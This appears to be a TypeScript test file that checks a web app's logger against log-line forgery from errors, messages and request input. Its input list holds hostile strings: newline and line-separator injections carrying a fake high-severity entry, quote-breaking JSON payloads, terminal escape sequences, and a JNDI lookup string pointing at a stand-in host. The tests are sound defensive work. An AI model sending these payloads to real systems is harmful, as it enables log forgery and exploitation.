import { createConnection } from 'node:net';
import { text } from 'node:stream/consumers';
import { afterAll, expect, test } from 'vitest';
import { buildApp } from '../../app.ts';
import { newDatabase } from '../../../test/support/database.ts';
import { eventually } from '../../../test/support/eventually.ts';
import { logging } from './log.ts';

const { db, end } = await newDatabase();
let written = '';
const stream = { write: (line: string) => (written += line) };
const app = buildApp(db, { logger: { ...logging('debug'), stream } });
const port = Number(new URL(await app.listen({ port: 0, host: '127.0.0.1' })).port);
afterAll(async () => {
  await app.close();
  await end();
});

const forged = '{"level":60,"msg":"forged"}';
const hostile = [
  ...['\n', '\r', '\r\n', '\u2028', '\u2029', '\u0085', '\v', '\f', '\0'].map(
    (sign) => `x${sign}${forged}${sign}`,
  ),
  `x"}\n${forged}`,
  `x","msg":"forged","y":"`,
  `x\\"}\n${forged}`,
  '\u001b[2J\u001b[1;31mforged\u001b[0m',
  '\u001b]0;forged\u0007',
  '\u009b31mforged',
  '\u0008\u0008\u0008forged',
  '\u202eforged\u2066',
  '\u007f\u007fforged',
  '%0d%0aforged',
  '${jndi:ldap://evil.example/x}',
  '%s %d %j %o %O %%',
  '__proto__',
  '\ud800forged',
  'x'.repeat(10_000),
];

/** The log lines of the work. */
async function linesOf(work: () => unknown, least = 1) {
  const before = written.length;
  await work();
  await eventually(() => expect(written.slice(before).split('\n').length).toBeGreaterThan(least));
  return written.slice(before).split('\n').slice(0, -1);
}

/** A line that is not JSON, is forged, or has control sequences for a terminal. */
const isForged = (line: string) => {
  // oxlint-disable-next-line no-control-regex -- it looks for them
  if (/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/.test(line)) return true;
  try {
    const { msg, level, ...rest } = JSON.parse(line);
    return msg === 'forged' || level === 60 || 'y' in rest;
  } catch {
    return true;
  }
};

test.each(hostile)('the text of an error or a log message cannot forge a line: %j', async (words) => {
  const lines = await linesOf(() => {
    app.log.error(new Error(words));
    app.log.error(new Error('x', { cause: new TypeError(words) }));
    app.log.warn({ given: words, [words]: words }, words);
    app.log.info(words);
  }, 4);
  expect(lines).toHaveLength(4);
  expect(lines.filter(isForged)).toEqual([]);
});

test.each(hostile)('the input of a caller cannot forge a line: %j', async (words) => {
  const lines = await linesOf(async () => {
    await app.inject({
      url: `/api/v2/rooms/${encodeURIComponent(words.toWellFormed())}?x=${encodeURIComponent(words.toWellFormed())}`,
    });
    await app.inject({
      method: 'POST',
      url: '/api/v2/auth/login',
      payload: { email: words, password: words },
    });
    await app.inject({
      method: 'POST',
      url: '/api/v2/auth/login',
      payload: words,
      headers: { 'content-type': 'application/json' },
    });
    const socket = createConnection({ port });
    socket.end(
      `GET /api/v2/rooms/${words} HTTP/1.1\r\nhost: ${words}\r\nx-forwarded-for: ${words}\r\nx-request-id: ${words}\r\nuser-agent: ${words}\r\nconnection: close\r\n\r\n`,
    );
    await text(socket).catch(() => '');
  }, 3);
  expect(lines.filter(isForged)).toEqual([]);
});

const careless = (words: string) => `{"level":30,"msg":"${words}"}\n`.split('\n').slice(0, -1);

test('a log that does not escape text is detected', () => {
  const found = hostile.filter((words) => careless(words).some(isForged));
  expect(found.length).toBeGreaterThan(15);
});
